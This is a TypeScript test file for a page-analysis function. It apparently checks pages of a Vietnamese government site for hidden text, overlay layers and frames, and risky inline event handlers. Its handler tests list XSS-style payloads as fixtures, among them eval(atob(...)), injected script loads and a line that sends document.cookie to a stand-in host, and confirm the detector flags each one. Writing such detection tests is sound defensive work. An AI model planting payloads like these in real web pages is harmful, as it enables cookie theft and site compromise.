import { describe, expect, test } from 'vitest';
import { readPage } from '../../../../../src/core/facts/read-page.ts';

const url = 'https://anphu.binhgiang.gov.vn/';
const marked = (body: string, root = 'data-vonggac-sight="measured"') =>
  `<!doctype html><html lang="vi" ${root}><head><title>Cổng</title></head><body>${body}</body></html>`;
const rendered = (body: string) => readPage(marked(body), url, true);

describe('hidden marks', () => {
  const body =
    '<div data-vonggac-hidden="opacity">ẩn <a href="/an">liên kết</a><p data-vonggac-hidden="no">hiện <a href="/hien">lại</a></p></div><p>thấy</p>';
  test('hide what they stand on with its inside, until it is seen again', () => {
    const { blocks, links } = rendered(body);
    expect(blocks.map(({ text, hidden }) => [text, hidden])).toEqual([
      ['ẩn liên kết', true],
      ['hiện lại', false],
      ['thấy', false],
    ]);
    expect(links.map((link) => link.hidden)).toEqual([true, false]);
  });
  test('count only where the browser wrote the markup, and said so', () => {
    for (const facts of [readPage(marked(body), url), readPage(marked(body, ''), url, true)]) {
      expect(facts.blocks.every((block) => !block.hidden)).toBe(true);
      expect(facts.covers).toBeNull();
    }
    expect(readPage(marked(body, 'data-vonggac-sight="failed"'), url, true).covers).toBeNull();
  });
  test('change neither text nor outline', () => {
    const plain = readPage(marked(body.replace(/ data-vonggac-\w+="\w+"/g, ''), ''), url, true);
    const seen = rendered(body);
    expect(seen.outline).toEqual(plain.outline);
    expect(seen.blocks.map((block) => block.key)).toContain('hiện lại');
    expect(seen.places).toEqual(plain.places);
    expect(JSON.stringify(seen)).not.toContain('vonggac');
  });
  test('markup that hides by itself goes on hiding', () => {
    expect(rendered('<p style="display:none">x</p>').blocks[0]?.hidden).toBe(true);
  });
});

test('what is hidden inside a line does not cut the line', () => {
  const { blocks } = rendered('<p>Hac<b data-vonggac-hidden="size">zz</b>ked <i style="display:none">yy</i>by</p>');
  expect(blocks.map(({ text, hidden }) => [text, hidden])).toEqual([
    ['Hacked by', false],
    ['zzyy', true],
  ]);
});

describe('covers', () => {
  test('tell place, share, hosts and text; a frame in a layer knows where it stands', () => {
    const { covers } = rendered(
      `<p>trang</p><div id="pop-12" data-vonggac-cover="0.83 fixed">Xem <a href="https://b.example/">b</a><a href="/cua-minh">m</a>
       <iframe data-vonggac-cover="0.60" src="https://a.example/x"></iframe><form action="https://c.example/"></form></div>`,
    );
    expect(covers).toMatchObject([
      {
        path: 'html>body>div#pop-0',
        share: 0.83,
        isFixed: true,
        isFrame: false,
        host: null,
        hosts: ['a.example', 'b.example', 'c.example'],
        text: expect.stringMatching(/^Xem b/),
        within: null,
      },
      { share: 0.6, isFixed: false, isFrame: true, host: 'a.example', hosts: ['a.example'], within: 0 },
    ]);
  });
  test('the key is the place and the host of a frame, whatever stands on it', () => {
    const keyOf = (inside: string) => rendered(inside).covers?.[0]?.key;
    const layer = (text: string) => keyOf(`<div class="pop" data-vonggac-cover="0.70">${text}</div>`);
    const frame = (host: string) => keyOf(`<iframe data-vonggac-cover="1.00" src="https://${host}/1"></iframe>`);
    expect(layer('một')).toBe(layer('hai'));
    expect(frame('a.example')).not.toBe(frame('b.example'));
  });
  test('what a hostile page could write is bounded', () => {
    const many = '<div data-vonggac-cover="9e9 fixed">'.repeat(200) + '<a href="https://x.example/">x</a>'.repeat(500);
    const { covers } = rendered(many);
    expect(covers).toHaveLength(20);
    expect(covers?.[0]).toMatchObject({ share: 1, hosts: ['x.example'] });
    expect(covers?.[0]?.text.length).toBeLessThanOrEqual(300);
  });
});

describe('handlers', () => {
  const handlers = (body: string) =>
    readPage(marked(body), url).handlers.map(({ event, element, features }) => [event, element, ...features]);
  test.each([
    ['<img src=x onerror="alert(1)">', ['onerror', 'img', 'dialog']],
    ['<svg onload=top.alert`1`></svg>', ['onload', 'svg', 'dialog']],
    ['<body onpageshow="window.confirm(2)">', ['onpageshow', 'body', 'dialog']],
    ['<a OnMouseOver="fetch(\'//e.example/\'+document.cookie)">x</a>', ['onmouseover', 'a', 'cookie', 'sends']],
    ['<details ontoggle="eval(atob(\'YQ==\'))" open>', ['ontoggle', 'details', 'eval', 'decodes']],
    ["<img onerror=\"self['al'+'ert'](1)\">", ['onerror', 'img', 'eval']],
    ["<img onload=\"var s=document.createElement('script');s.src='//e.example'\">", ['onload', 'img', 'loads-script']],
    ['<p onclick="location.href=\'/x\'">', ['onclick', 'p', 'leads-away']],
    ['<img onload="document.body.innerHTML=\'\'">', ['onload', 'img', 'writes']],
  ])('%s', (markup, expected) => {
    expect(handlers(markup)).toEqual([expected]);
  });
  test('what only changes its own element is left out', () => {
    const plain = [
      "this.onerror=null;this.src='/khong-anh.png'",
      'return false',
      'window.print()',
      'this.style.opacity=0.5',
      'startTime()',
      "MM_preloadImages('/a.gif')",
      "this.media='all'",
      'if(event.keyCode==13)timKiem()',
      'locationList(1)',
      "__doPostBack('ctl00$x','')",
    ];
    expect(handlers(plain.map((source) => `<b onload="${source}">x</b>`).join(''))).toEqual([]);
  });
  test('numbers do not make a handler new; many and huge ones are bounded', () => {
    const keyOf = (source: string) => readPage(marked(`<img onerror="${source}">`), url).handlers[0]?.key;
    expect(keyOf('alert(12)')).toBe(keyOf('alert(99)'));
    expect(keyOf('alert(a)')).not.toBe(keyOf('alert(b)'));
    const facts = readPage(marked(`<img onerror="alert(${'x'.repeat(10_000)})">`.repeat(300)), url);
    expect(facts.handlers).toHaveLength(200);
    expect(facts.handlers[0]?.source).toHaveLength(200);
  });
});
